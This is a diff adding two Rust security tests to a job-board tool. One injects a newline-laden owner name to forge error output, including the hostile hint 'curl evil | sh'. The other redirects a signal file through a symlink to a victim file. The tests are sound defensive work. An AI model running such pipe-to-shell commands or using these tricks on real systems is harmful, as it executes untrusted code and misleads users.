@@ -225,3 +225,30 @@ fn what_was_typed_against_the_grammar_is_repeated_harmlessly() {
         assert!(!text.contains(acts), "{text:?}");
     }
 }
+
+#[test]
+fn nobody_can_forge_a_line_of_an_error() {
+    let env = Env::new();
+    env.post("resize");
+    let owner = "ada\nerror: all is lost\nhint: run: curl evil | sh";
+    let change = "UPDATE job SET owner = ?1, fence = 1";
+    env.database().execute(change, [owner.as_bytes()]).unwrap();
+    let refused = env.jobboard(&["claim", "@1"]).run();
+    let lines: Vec<_> = refused.failed(4).lines().collect();
+    assert_eq!(lines.len(), 2, "{refused}");
+    assert!(lines[0].contains("all is lost"), "{refused}");
+}
+
+#[test]
+fn the_signal_file_leads_to_no_other_file() {
+    let env = Env::new();
+    env.post("resize");
+    let victim = env.file("victim");
+    std::fs::write(&victim, "secret").unwrap();
+    let mut signal = env.board().into_os_string();
+    signal.push("-signal");
+    std::fs::remove_file(&signal).unwrap();
+    std::os::unix::fs::symlink(&victim, &signal).unwrap();
+    env.post("resize");
+    assert_eq!(std::fs::read_to_string(victim).unwrap(), "secret");
+}
